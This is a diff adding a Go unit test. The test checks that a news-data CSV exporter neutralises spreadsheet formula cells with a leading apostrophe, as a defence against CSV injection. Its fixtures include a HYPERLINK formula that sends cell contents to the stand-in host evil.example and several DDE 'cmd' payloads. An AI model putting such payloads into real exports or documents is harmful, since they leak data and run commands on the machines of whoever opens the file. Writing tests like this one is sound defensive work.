@@ -331,6 +331,71 @@ func TestStoredJSONPassThrough(t *testing.T) {
 	}
 }
 
+// TestCSVCellsAreInert: cells that a spreadsheet would run as a formula
+// are escaped with a leading apostrophe (OWASP, CSV injection); plain
+// numbers, negative ones included, stay numbers.
+func TestCSVCellsAreInert(t *testing.T) {
+	recs := sample()
+	a := recs[0].Article
+	a.Title = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
+	a.Byline = "+cmd|' /C calc'!A0"
+	a.FetchError = "@SUM(1+1)*cmd|' /C calc'!A0"
+	a.Feed.GUID = "-2+3+cmd|' /C calc'!A0"
+	a.Lang = "\tlead tab"
+	a.PublishedSource = "\r=1+1"
+	ex := recs[0].Extraction
+	ex.Mentions[1].Location.Lon = ptr(-73.5)
+	ex.Mentions[1].Location.Name = "=1+2"
+	want := map[string]string{
+		a.Title:                `'` + a.Title,
+		a.Byline:               `'` + a.Byline,
+		a.FetchError:           `'` + a.FetchError,
+		a.Feed.GUID:            `'` + a.Feed.GUID,
+		a.Lang:                 `'` + a.Lang,
+		a.PublishedSource:      `'` + a.PublishedSource,
+		"=1+2":                 "'=1+2",
+		"-73.5":                "-73.5",
+		"-2":                   "-2",
+		"1.1 trillion won":     "1.1 trillion won",
+		"-0x1p3":               "'-0x1p3",
+		"+5":                   "+5",
+		"-.5":                  "'-.5",
+		"-1e5":                 "'-1e5",
+		"Park Sung-ho (Envoy)": "Park Sung-ho (Envoy)",
+		"+09:00":               "+09:00",
+		"-05:30":               "-05:30",
+		"+09:00=1":             "'+09:00=1",
+		"-5:00":                "'-5:00",
+	}
+	for in, out := range want {
+		if got := inert([]string{in})[0]; got != out {
+			t.Errorf("inert(%q) = %q, want %q", in, got, out)
+		}
+	}
+	for _, records := range []string{Articles, Mentions, Events, EventMentions} {
+		out := write(t, Options{Format: CSV, Records: records}, recs)
+		rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		lon := false
+		for _, r := range rows[1:] {
+			for _, cell := range r {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isDecimal(cell) && !isOffset(cell) {
+					t.Errorf("%s CSV: cell %q would run as a formula", records, cell)
+				}
+				lon = lon || cell == "-73.5"
+			}
+		}
+		if records == Mentions && !lon {
+			t.Errorf("mentions CSV: the longitude -73.5 is missing or was escaped:\n%s", out)
+		}
+		if records == Articles && !bytes.Contains(out, []byte(`'=HYPERLINK(`)) {
+			t.Errorf("articles CSV: the title is not escaped:\n%s", out)
+		}
+	}
+}
+
 // TestInlineMentionsCarryIndex: the mentions and events inside an article
 // record carry "i", their index in the article, which the events' who,
 // when, where and amounts refer to; a --type filter keeps the indexes.
